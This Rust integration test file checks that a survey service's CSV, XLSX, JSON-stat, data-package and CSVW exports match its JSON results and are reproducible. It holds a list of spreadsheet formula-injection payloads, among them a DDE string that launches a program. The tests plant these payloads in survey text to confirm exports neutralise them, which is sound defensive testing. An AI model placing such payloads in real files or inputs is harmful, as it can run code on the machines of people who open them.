//! Every form of results, read back and held against JSON cell by cell. No text in them becomes a formula.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{Cursor, Read};
use std::process::Command;

use calamine::{Data, Reader, Xlsx};
use jiff::civil::date;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::harness::{Engine, Office, Reply, noon};
use crate::on_both_databases;
use crate::v1::samples::{every_kind, publish_first};

on_both_databases!(
    csv_says_the_same_cell_by_cell,
    a_workbook_says_the_same_cell_by_cell,
    json_stat_says_the_same_cell_by_cell,
    a_data_package_holds_the_csv_and_describes_it,
    csvw_describes_the_csv_at_its_address,
    no_text_becomes_a_formula,
    everything_withheld_is_still_every_form,
    the_same_figures_are_the_same_bytes,
);

const FORMS: [&str; 5] = ["csv", "xlsx", "json-stat", "data-package", "csvw"];
const SPLITS: [&str; 6] = ["none", "department", "month", "quarter", "site", "channel"];
const PUBLIC: &str = "https://ankieta.example.pl";

/// What spreadsheets could run, as names and words of an office that means it badly.
const HOSTILE: [&str; 8] = [
    "=HYPERLINK(\"http://127.0.0.1/?\"&A1;\"tu\")",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    " =1+1",
    "\u{ff1d}1+1",
    "=1\";\"=2,=3",
    "=cmd|' /C calc'!A0",
];

/// A closed quarter of a survey with every kind of question: two departments have figures, one is withheld, and what
/// two small ones had is pooled.
struct Quarter {
    office: Office,
    analyst: String,
}

impl Quarter {
    fn collect(engine: Engine) -> Self {
        let office = Office::with(engine, &["--public-url", PUBLIC]);
        let codes = ["KM", "GN", "AB", "OS", "NP"];
        for (code, name) in codes.into_iter().zip(HOSTILE) {
            let body = json!({ "name": { "pl": name, "en": format!("{name} (en)") } });
            office.json("PATCH", &format!("/api/v1/departments/{code}"), &office.admin, &body).expect(200);
        }
        publish_first(&office, "test", &questionnaire(&codes));
        let quarter = Self { analyst: office.key("results", &[]), office };
        quarter.send("KM", "2026-07-10", 14);
        quarter.send("GN", "2026-07-12", 11);
        quarter.send("AB", "2026-07-13", 6);
        quarter.send("OS", "2026-07-14", 7);
        quarter.office.tick(date(2026, 7, 15));
        quarter.office.clock.set(noon(date(2026, 8, 14)).timestamp());
        quarter.send("KM", "2026-08-11", 13);
        quarter.office.tick(date(2026, 10, 1));
        quarter
    }

    /// Sends different responses, from a kiosk, as many as that.
    fn send(&self, department: &str, day: &str, count: usize) {
        let kiosk = self.office.key("submit", &[]);
        let items: Vec<Value> = (0..count)
            .map(|number| {
                let reasons = ["time", "info", "other"];
                let answers = json!({
                    "OVERALL": number % 5 + 1,
                    "WAIT": if number % 4 == 0 { json!("na") } else { json!(number % 3 + 1) },
                    "OUTCOME": if number % 3 == 0 { json!("yes") } else { Value::Null },
                    "REASON": if number % 5 < 2 { json!(reasons[number % 2..number % 2 + 2]) } else { Value::Null },
                    "RECOMMEND": number % 11,
                    "SETTLED": if number % 2 == 0 { "yes" } else { "no" },
                });
                json!({ "id": uuid::Uuid::new_v4(), "department": department, "collected_on": day, "answers": answers })
            })
            .collect();
        let path = "/api/v1/surveys/test/responses";
        let results = self.office.json("POST", path, &kiosk, &json!({ "responses": items })).expect(200).json();
        assert!(results["results"].as_array().unwrap().iter().all(|result| result["status"] == "created"), "{results}");
    }

    fn ask(&self, query: &str) -> Reply {
        self.office.get(&format!("/api/v1/surveys/test/results?{query}"), &self.analyst).expect(200)
    }

    /// The results as JSON for a split, and the same in another form.
    fn both(&self, split: &str, form: &str) -> (Value, Reply) {
        let query = format!("period=2026-Q3&group_by={split}");
        (self.ask(&query).json(), self.ask(&format!("{query}&format={form}")))
    }
}

/// Every kind of question, with hostile words in two languages.
fn questionnaire(departments: &[&str]) -> Value {
    let mut words = HOSTILE.iter().cycle();
    let mut both = || {
        let text = words.next().unwrap();
        json!({ "pl": text, "en": text })
    };
    let mut questionnaire = every_kind();
    questionnaire["languages"] = json!(["pl", "en"]);
    questionnaire["departments"] = json!(departments);
    questionnaire["title"] = both();
    questionnaire["rating_labels"] = json!([both(), both(), both(), both(), both()]);
    for question in questionnaire["questions"].as_array_mut().unwrap() {
        question["text"] = both();
        for option in question["options"].as_array_mut().into_iter().flatten() {
            option["text"] = both();
        }
    }
    questionnaire
}

/// The groups of results, and behind them the total, where they are split.
fn parts<'a>(results: &'a Value, split: &str) -> Vec<&'a Value> {
    let total = (split != "none").then_some(&results["total"]);
    results["groups"].as_array().unwrap().iter().chain(total).collect()
}

/// The name of a file of the quarter, without what says its form.
fn file_name(split: &str) -> String {
    if split == "none" { "test-2026-Q3".to_owned() } else { format!("test-2026-Q3-{split}") }
}

/// The rows that a file of these results must have, below its header.
fn rows(results: &Value, split: &str) -> Vec<Vec<Value>> {
    let mut rows = Vec::new();
    let definitions = [results["definitions"].clone()];
    let nothing = |count: usize| vec![Value::Null; count];
    let coverage = &results["coverage"];
    let last = [vec![Value::Null; 3], vec![coverage["first_day"].clone(), coverage["last_day"].clone()]].concat();
    for group in parts(results, split) {
        let is_total = group["key"] == json!({});
        let front = vec![
            results["survey"].clone(),
            results["period"]["label"].clone(),
            results["period"]["closed"].clone(),
            results["coverage"]["as_of"].clone(),
            if is_total { "none" } else { split }.into(),
            group["key"][split].clone(),
            group["label"]["pl"].clone(),
            group["withheld"].clone(),
            group["n"].clone(),
        ];
        let questions = group["questions"].as_array().unwrap();
        let untold = group["untold"].as_array().unwrap();
        for question in questions {
            let plain =
                ["code", "kind", "n", "missing", "not_applicable", "mean", "sd"].map(|name| question[name].clone());
            let positive = ["n", "share", "low", "high", "level"].map(|name| question["positive"][name].clone());
            let rest =
                [&question["certainty"], &question["nps"]["score"], &question["nps"]["margin"]].map(Value::clone);
            let people = ["people", "asked"].map(|name| question[name].clone());
            let days = ["from", "to"].map(|name| question["days"][name].clone());
            let limits = ["comparable", "partial"].map(|name| question[name].clone());
            let bound = &question["positive"]["without_repeated"];
            for option in question["distribution"].as_array().unwrap() {
                let of = [&option["of"], &bound["repeated"], &bound["low"], &bound["high"]].map(Value::clone);
                let option = ["option", "n", "share"].map(|name| option[name].clone());
                let back = [&people[..], &days, &limits, &of, &last].concat();
                rows.push([&front[..], &plain, &positive, &rest, &option, &definitions, &back].concat());
            }
        }
        let bare = [&definitions[..], &nothing(5), &[group["partial"].clone()], &nothing(4), &last].concat();
        for question in untold {
            let mut front = front.clone();
            front[7] = question["withheld"].clone();
            rows.push([&front[..], &[question["code"].clone()], &nothing(17), &bare].concat());
        }
        if questions.is_empty() && untold.is_empty() {
            rows.push([&front[..], &nothing(18), &bare].concat());
        }
    }
    rows
}

/// Whether two values of JSON are the same; numbers may differ by what reading and writing them costs.
fn are_same(left: &Value, right: &Value) -> bool {
    match (left.as_f64(), right.as_f64()) {
        (Some(left), Some(right)) => (left - right).abs() < 1e-12,
        _ => left == right,
    }
}

/// Asserts that a cell of a CSV file says what a value of JSON does.
#[track_caller]
fn assert_cell(cell: &str, value: &Value, comma: char) {
    match value {
        Value::Null => assert_eq!(cell, ""),
        Value::Bool(flag) => assert_eq!(cell, flag.to_string()),
        Value::String(text) if HOSTILE.contains(&text.as_str()) => assert_eq!(cell, format!("'{text}")),
        // A Polish Excel would read 2026-07 as a date.
        Value::String(text) if comma == ',' && text.len() == 7 && text.as_bytes()[4] == b'-' && !text.contains('Q') => {
            assert_eq!(cell, format!("'{text}"));
        }
        Value::String(text) => assert_eq!(cell, text),
        Value::Number(number) if number.is_u64() => assert_eq!(cell, number.to_string()),
        _ => {
            assert!(!cell.contains(if comma == ',' { '.' } else { ',' }), "{cell}");
            let number: f64 = cell.replace(comma, ".").parse().unwrap();
            assert!(are_same(&number.into(), value), "{cell} is not {value}");
        }
    }
}

fn read_csv(bytes: &[u8], separator: u8) -> (Vec<String>, Vec<csv::StringRecord>) {
    let mut reader = csv::ReaderBuilder::new().delimiter(separator).from_reader(bytes);
    let header = reader.headers().unwrap().iter().map(str::to_owned).collect();
    (header, reader.records().map(Result::unwrap).collect())
}

fn csv_says_the_same_cell_by_cell(engine: Engine) {
    let quarter = Quarter::collect(engine);
    for split in SPLITS {
        for (dialect, mark, separator, comma) in [("rfc4180", "", b',', '.'), ("excel-pl", "\u{feff}", b';', ',')] {
            let (results, reply) = quarter.both(split, &format!("csv&dialect={dialect}"));
            assert_eq!(reply.header("content-type"), "text/csv; charset=utf-8");
            assert_eq!(
                reply.header("content-disposition"),
                format!("attachment; filename=\"{}.csv\"", file_name(split))
            );
            let text = reply.text();
            let table = text.strip_prefix(mark).unwrap();
            assert!(table.starts_with("survey") && table.ends_with("\r\n"));
            let (header, records) = read_csv(table.as_bytes(), separator);
            assert_eq!((header.len(), &header[5], &header[26][..]), (43, &"group".to_owned(), "option_share"));
            let added = [
                "people",
                "asked",
                "from",
                "to",
                "comparable",
                "partial",
                "option_of",
                "repeated",
                "without_repeated_low",
                "without_repeated_high",
                "selected_departments",
                "selected_questions",
                "stood_on",
                "first_day",
                "last_day",
            ];
            assert_eq!(header[28..], added, "people count columns: new ones go to the end");
            let wanted = rows(&results, split);
            assert_eq!(records.len(), wanted.len());
            for (record, row) in records.iter().zip(&wanted) {
                assert_eq!(record.len(), row.len());
                record.iter().zip(row).for_each(|(cell, value)| assert_cell(cell, value, comma));
            }
        }
    }
}

/// The sheets of a workbook, as values of JSON.
fn read_workbook(bytes: &[u8]) -> BTreeMap<String, Vec<Vec<Value>>> {
    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
    let names = workbook.sheet_names();
    let value = |cell: &Data| match cell {
        Data::Empty => Value::Null,
        Data::String(text) => text.as_str().into(),
        Data::Bool(flag) => (*flag).into(),
        Data::Float(number) => (*number).into(),
        Data::DateTime(moment) => {
            let (year, month, day, ..) = moment.to_ymd_hms_milli();
            format!("{year:04}-{month:02}-{day:02}").into()
        }
        other => panic!("{other:?}"),
    };
    let read = |name: String| {
        assert!(workbook.worksheet_formula(&name).unwrap().is_empty(), "{name}");
        let range = workbook.worksheet_range(&name).unwrap();
        let rows = range.rows().map(|row| row.iter().map(value).collect()).collect();
        (name, rows)
    };
    names.into_iter().map(read).collect()
}

/// The files of a zip, by name; none has a date of its own.
fn unpack(bytes: &[u8]) -> BTreeMap<String, Vec<u8>> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let files = zip.len();
    let read = |index: usize| {
        let mut file = zip.by_index(index).unwrap();
        assert_eq!(file.last_modified(), Some(zip::DateTime::default()));
        let mut content = Vec::new();
        file.read_to_end(&mut content).unwrap();
        (file.name().unwrap().into_owned(), content)
    };
    (0..files).map(read).collect()
}

fn a_workbook_says_the_same_cell_by_cell(engine: Engine) {
    let quarter = Quarter::collect(engine);
    for split in SPLITS {
        let (results, reply) = quarter.both(split, "xlsx");
        assert_eq!(reply.header("content-disposition"), format!("attachment; filename=\"{}.xlsx\"", file_name(split)));
        let sheets = read_workbook(&reply.bytes);
        assert_eq!(sheets.keys().collect::<Vec<_>>(), ["Dane", "Metodyka", "Słownik"]);
        let (header, data) = sheets["Dane"].split_first().unwrap();
        let (csv_header, _) = read_csv(&quarter.both(split, "csv").1.bytes, b',');
        assert_eq!(json!(header), json!(csv_header));
        let wanted = rows(&results, split);
        assert_eq!(data.len(), wanted.len());
        for (cell, value) in data.iter().flatten().zip(wanted.iter().flatten()) {
            assert!(are_same(cell, value), "{cell} is not {value}");
        }
        let codes = |what: &str| -> Vec<&Value> {
            sheets["Słownik"].iter().filter(|row| row[0] == what).map(|row| &row[2]).collect()
        };
        assert_eq!(json!(codes("column")), json!(header));
        assert_eq!(codes("question"), ["OVERALL", "WAIT", "OUTCOME", "REASON", "RECOMMEND", "SETTLED"]);
        assert_eq!(codes("option").len(), 5 + 3 + 3 + 3 + 11 + 2);
        let method = json!(sheets["Metodyka"]).to_string();
        for said in
            ["k = 10", "Wypełnione ankiety: 51", "od 10.07.2026 do 11.08.2026", "OVERALL: 4, 5.", "SETTLED: yes."]
        {
            assert!(method.contains(said), "{said}: {method}");
        }
    }
    let files = unpack(&quarter.both("department", "xlsx").1.bytes);
    let text = |name: &str| String::from_utf8(files[name].clone()).unwrap();
    assert!(text("docProps/core.xml").contains("2026-10-01T00:00:00Z"));
    let data = text("xl/worksheets/sheet1.xml");
    assert!(data.contains("state=\"frozen\"") && data.contains("<autoFilter ref=\"A1:AQ"), "{data}");
    let styles = text("xl/styles.xml");
    assert!(styles.contains("0.0%"), "{styles}");
    assert!(styles.contains("mniej niż k odpowiedzi"), "a withheld row says why in words");
}

/// What each cell of a cube must hold, by group, answer and measure; a cell that is not here holds nothing.
fn cube(results: &Value, split: &str) -> BTreeMap<[String; 3], Value> {
    let mut cells = BTreeMap::new();
    for group in parts(results, split) {
        let id = match (split, &group["key"][split]) {
            _ if group["key"] == json!({}) => "_T",
            (_, Value::String(part)) => part,
            _ => "_O",
        };
        let mut put = |answer: &str, measure: &str, value: &Value| {
            if !value.is_null() {
                cells.insert([id, answer, measure].map(str::to_owned), value.clone());
            }
        };
        put("_T", "n", &group["n"]);
        put("_T", "partial", &group["partial"]);
        for question in group["questions"].as_array().unwrap() {
            let code = question["code"].as_str().unwrap();
            for name in ["n", "missing", "not_applicable", "mean", "sd", "people", "asked", "partial"] {
                put(code, name, &question[name]);
            }
            for name in ["n", "share", "low", "high"] {
                put(code, &format!("positive_{name}"), &question["positive"][name]);
            }
            for name in ["score", "margin"] {
                put(code, &format!("nps_{name}"), &question["nps"][name]);
            }
            for option in question["distribution"].as_array().unwrap() {
                let id = format!("{code}.{}", option["option"].as_str().unwrap());
                for name in ["n", "share", "of"] {
                    put(&id, name, &option[name]);
                }
            }
        }
    }
    cells
}

/// Why nothing is told of an answer: a question, an option of one, or all responses.
fn why_untold<'a>(group: &'a Value, answer: &str) -> &'a Value {
    let code = answer.split('.').next().unwrap();
    let mut untold = group["untold"].as_array().unwrap().iter();
    untold.find(|question| question["code"] == code).map_or(&group["withheld"], |question| &question["withheld"])
}

fn json_stat_says_the_same_cell_by_cell(engine: Engine) {
    let quarter = Quarter::collect(engine);
    for split in SPLITS {
        let (results, reply) = quarter.both(split, "json-stat");
        let dataset = reply.json();
        assert_eq!((&dataset["version"], &dataset["class"]), (&"2.0".into(), &"dataset".into()));
        assert_eq!(dataset["id"], json!(["group", "answer", "measure"]));
        assert_eq!(dataset["extension"]["definitions"], results["definitions"]);
        let ids = |dimension: &str| -> Vec<String> {
            serde_json::from_value(dataset["dimension"][dimension]["category"]["index"].clone()).unwrap()
        };
        let (groups, answers, measures) = (ids("group"), ids("answer"), ids("measure"));
        assert_eq!(dataset["size"], json!([groups.len(), answers.len(), measures.len()]));
        let mut wanted = cube(&results, split);
        let values = dataset["value"].as_array().unwrap();
        assert_eq!(values.len(), groups.len() * answers.len() * measures.len());
        let places = groups.iter().zip(parts(&results, split)).flat_map(|(id, group)| {
            let cells = answers.iter().flat_map(|answer| measures.iter().map(move |measure| (answer, measure)));
            cells.map(move |(answer, measure)| (group, [id.clone(), answer.clone(), measure.clone()]))
        });
        for (place, ((group, at), value)) in places.zip(values).enumerate() {
            let status = &dataset["status"][place.to_string()];
            assert!(are_same(value, &wanted.remove(&at).unwrap_or_default()), "{at:?}: {value}");
            let why = why_untold(group, &at[1]);
            if !why.is_null() && !at[1].contains('.') && at[2] == "n" {
                assert_eq!((value, status), (&Value::Null, why), "{at:?}");
            } else if at[2] == "positive_share" && !value.is_null() {
                let mut questions = group["questions"].as_array().unwrap().iter();
                assert_eq!(questions.find(|question| question["code"] == at[1][..]).unwrap()["certainty"], *status);
            } else {
                assert!(status.is_null() || (value.is_null() && status == why), "{at:?}: {status}");
            }
        }
        assert_eq!(wanted, BTreeMap::new(), "nothing is left over");
        let labels = dataset["dimension"]["answer"]["category"]["label"].as_object().unwrap().values();
        let different: BTreeSet<String> = labels.map(Value::to_string).collect();
        assert_eq!(different.len(), answers.len(), "clients find rows by label");
        assert_eq!(dataset["role"]["time"].is_array(), matches!(split, "month" | "quarter"));
    }
}

fn a_data_package_holds_the_csv_and_describes_it(engine: Engine) {
    let quarter = Quarter::collect(engine);
    for split in SPLITS {
        let (_, reply) = quarter.both(split, "data-package");
        assert_eq!(reply.header("content-disposition"), format!("attachment; filename=\"{}.zip\"", file_name(split)));
        let files = unpack(&reply.bytes);
        assert_eq!(files.keys().collect::<Vec<_>>(), ["codebook.csv", "data.csv", "datapackage.json"]);
        assert_eq!(files["data.csv"], quarter.both(split, "csv").1.bytes);
        let descriptor: Value = serde_json::from_slice(&files["datapackage.json"]).unwrap();
        assert_eq!(
            (&descriptor["name"], &descriptor["created"]),
            (&"test-2026-q3".into(), &"2026-10-01T00:00:00Z".into())
        );
        for resource in descriptor["resources"].as_array().unwrap() {
            let bytes = &files[resource["path"].as_str().unwrap()];
            let hash: String = Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect();
            assert_eq!(
                (&resource["bytes"], &resource["hash"]),
                (&bytes.len().into(), &format!("sha256:{hash}").into())
            );
            let fields = resource["schema"]["fields"].as_array().unwrap().iter();
            let names: Vec<&Value> = fields.map(|field| &field["name"]).collect();
            assert_eq!(json!(names), json!(read_csv(bytes, b',').0));
        }
    }
}

fn csvw_describes_the_csv_at_its_address(engine: Engine) {
    let quarter = Quarter::collect(engine);
    for split in SPLITS {
        let (_, reply) = quarter.both(split, "csvw");
        let metadata = reply.json();
        let address = metadata["url"].as_str().unwrap().strip_prefix(PUBLIC).unwrap();
        let csv = quarter.office.get(address, &quarter.analyst).expect(200);
        assert_eq!(csv.bytes, quarter.both(split, "csv").1.bytes);
        let columns = metadata["tableSchema"]["columns"].as_array().unwrap().iter();
        let names: Vec<&Value> = columns.map(|column| &column["name"]).collect();
        assert_eq!(json!(names), json!(read_csv(&csv.bytes, b',').0));
    }
    let narrow = "period=2026-07..2026-08&department=GN&department=KM&question=WAIT&group_by=month&as_of=2026-09-30";
    let metadata = quarter.ask(&format!("{narrow}&format=csvw")).json();
    assert_eq!(metadata["url"], format!("{PUBLIC}/api/v1/surveys/test/results?{narrow}&format=csv"));
}

fn no_text_becomes_a_formula(engine: Engine) {
    let quarter = Quarter::collect(engine);
    let reply = |form: &str| quarter.both("department", form).1;
    // A spreadsheet reads these, and what it could run has an apostrophe before it.
    let package = unpack(&reply("data-package").bytes);
    let mut guarded = 0;
    for (bytes, separator) in
        [(reply("csv").bytes, b','), (package["data.csv"].clone(), b','), (package["codebook.csv"].clone(), b',')]
    {
        let (header, records) = read_csv(&bytes, separator);
        for cell in header.iter().map(String::as_str).chain(records.iter().flatten()) {
            assert!(!cell.trim_start().starts_with(['=', '+', '@', '\u{ff1d}']), "{cell}");
            assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "{cell}");
            guarded += usize::from(cell.strip_prefix('\'').is_some_and(|text| HOSTILE.contains(&text)));
        }
    }
    assert!(guarded > 50, "{guarded}");
    // These keep text as it is, and say that it is text.
    let sheets = read_workbook(&reply("xlsx").bytes);
    let words: Vec<&Value> = sheets.values().flatten().flatten().collect();
    let dataset = reply("json-stat").json();
    let labels = dataset["dimension"].to_string();
    for hostile in HOSTILE {
        assert!(words.contains(&&hostile.into()), "{hostile}");
        assert!(labels.contains(&json!(hostile).to_string().trim_matches('"').to_owned()), "{hostile}");
    }
    let styles = unpack(&reply("xlsx").bytes)["xl/styles.xml"].clone();
    assert!(String::from_utf8(styles).unwrap().contains("quotePrefix=\"1\""), "an edited cell stays text");
}

fn everything_withheld_is_still_every_form(engine: Engine) {
    let quarter = Quarter::collect(engine);
    for (query, why) in [
        ("period=2025&group_by=month", "fewer_than_k"),
        ("period=1800", "fewer_than_k"),
        ("period=2026-Q3&department=NP", "fewer_than_k"),
        ("period=2026-Q4&group_by=channel", "not_closed_yet"),
        ("period=2026-07&group_by=channel", "quarters_only"),
        ("period=2027&group_by=department", "future"),
    ] {
        for form in FORMS {
            let reply = quarter.ask(&format!("{query}&format={form}"));
            assert!(!reply.bytes.is_empty(), "{query} {form}");
        }
        let dataset = quarter.ask(&format!("{query}&format=json-stat")).json();
        // Behind the parts stands the total, of which something may be told.
        let split = query.contains("group_by");
        let [all, answers, measures] = [0, 1, 2].map(|place| dataset["size"][place].as_u64().unwrap() as usize);
        let cells = (all - usize::from(split)) * answers * measures;
        let places = dataset["status"].as_object().unwrap().keys();
        let withheld = places.filter(|place| place.parse::<usize>().unwrap() < cells).count();
        assert!(withheld >= all - usize::from(split), "{query}");
        assert!(dataset["value"].as_array().unwrap()[..cells].iter().all(Value::is_null), "{query}");
        let sheets = read_workbook(&quarter.ask(&format!("{query}&format=xlsx")).bytes);
        let mut rows = sheets["Dane"].iter().skip(1).filter(|row| !split || row[4] != "none");
        assert!(rows.all(|row| row[7] == why), "{query}");
    }
}

fn the_same_figures_are_the_same_bytes(engine: Engine) {
    let quarter = Quarter::collect(engine);
    let mut tags = BTreeSet::new();
    for form in FORMS {
        let (_, reply) = quarter.both("department", form);
        // Another process, at another time, makes the same file.
        let output = Command::new(env!("CARGO_BIN_EXE_ankieta"))
            .env_clear()
            .env("DATABASE_URL", &quarter.office.database.url)
            .args(["export", "--survey", "test", "--period", "2026-Q3", "--format", form, "--public-url", PUBLIC])
            .output()
            .unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        assert!(output.stdout == reply.bytes, "{form}");
        let tag = reply.header("etag").to_owned();
        let path = format!("/api/v1/surveys/test/results?period=2026-Q3&group_by=department&format={form}");
        let again = quarter.office.send("GET", &path, &quarter.analyst, &[("if-none-match", &tag)], &[]).expect(304);
        assert!(again.bytes.is_empty());
        tags.insert(tag);
    }
    assert_eq!(tags.len(), FORMS.len());
}
